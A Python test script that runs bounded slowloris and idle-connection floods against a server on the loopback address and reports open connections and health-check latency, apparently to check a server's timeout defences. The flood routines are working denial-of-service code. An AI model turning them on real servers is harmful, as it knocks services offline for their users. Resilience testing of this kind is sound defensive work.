#!/usr/bin/env python3
"""Slow and idle clients against a server on the loopback only, bounded in count and time.

  attack.py slowloris HOST:PORT --headers N --bodies M --every S --seconds T
  attack.py idle HOST:PORT --sockets N --seconds T

Every few seconds it prints how many of its connections the server still keeps open and how long
a fresh client waits for GET /healthz. It never talks to anything but 127.0.0.0/8 or ::1.
"""

import argparse
import ipaddress
import socket
import sys
import time


def loopback(address):
    host, port = address.rsplit(":", 1)
    if not ipaddress.ip_address(host.strip("[]")).is_loopback:
        sys.exit(f"refusing {host}: loopback addresses only")
    return host.strip("[]"), int(port)


def fresh_get(target, timeout=10.0):
    """Seconds a new client waits for GET /healthz, or the failure."""
    started = time.monotonic()
    try:
        with socket.create_connection(target, timeout=timeout) as s:
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            answer = s.recv(64)
        status = answer.split(b"\r\n", 1)[0].decode(errors="replace") or "closed without answer"
        return f"{time.monotonic() - started:.3f}s {status}"
    except OSError as err:
        return f"{time.monotonic() - started:.3f}s failed: {err}"


def still_open(sock):
    """False once the server closed (or reset) the connection."""
    sock.setblocking(False)
    try:
        data = sock.recv(4096)
        return data != b"" and not data.startswith(b"HTTP/1.1 408")
    except BlockingIOError:
        return True
    except OSError:
        return False


def connect_many(target, count):
    socks = []
    for _ in range(count):
        try:
            socks.append(socket.create_connection(target, timeout=5))
        except OSError as err:
            print(f"connect failed after {len(socks)} sockets: {err}")
            break
    return socks


def report(started, label, groups, target):
    counts = ", ".join(f"{name} open {sum(1 for s in socks if s.fileno() >= 0)}/{len(socks)}" for name, socks in groups)
    print(f"t={time.monotonic() - started:5.1f}s {label}: {counts}; fresh GET /healthz: {fresh_get(target)}", flush=True)


def prune(socks):
    for s in socks:
        if s.fileno() >= 0 and not still_open(s):
            s.close()


def slowloris(args, target):
    headers = connect_many(target, args.headers)
    for s in headers:
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
    bodies = connect_many(target, args.bodies)
    for s in bodies:
        s.sendall(b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{")
    started = time.monotonic()
    n = 0
    while time.monotonic() - started < args.seconds:
        time.sleep(args.every)
        n += 1
        for group, line in ((headers, f"X-Slow-{n}: 1\r\n".encode()), (bodies, b" ")):
            for s in group:
                if s.fileno() >= 0:
                    try:
                        s.setblocking(True)
                        s.sendall(line)
                    except OSError:
                        s.close()
        prune(headers)
        prune(bodies)
        report(started, "slowloris", [("headers", headers), ("bodies", bodies)], target)
    for s in headers + bodies:
        s.close()


def idle(args, target):
    socks = connect_many(target, args.sockets)
    started = time.monotonic()
    while time.monotonic() - started < args.seconds:
        time.sleep(args.every)
        prune(socks)
        report(started, "idle flood", [("idle", socks)], target)
    for s in socks:
        s.close()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=["slowloris", "idle"])
    parser.add_argument("address")
    parser.add_argument("--headers", type=int, default=100)
    parser.add_argument("--bodies", type=int, default=50)
    parser.add_argument("--sockets", type=int, default=1100)
    parser.add_argument("--every", type=float, default=5.0)
    parser.add_argument("--seconds", type=float, default=40.0)
    args = parser.parse_args()
    if max(args.headers, args.bodies, args.sockets) > 5000 or args.seconds > 300:
        sys.exit("bounded: at most 5,000 sockets and 300 s")
    target = loopback(args.address)
    print(f"before: fresh GET /healthz: {fresh_get(target)}", flush=True)
    (slowloris if args.mode == "slowloris" else idle)(args, target)
    print(f"after: fresh GET /healthz: {fresh_get(target)}", flush=True)


if __name__ == "__main__":
    main()
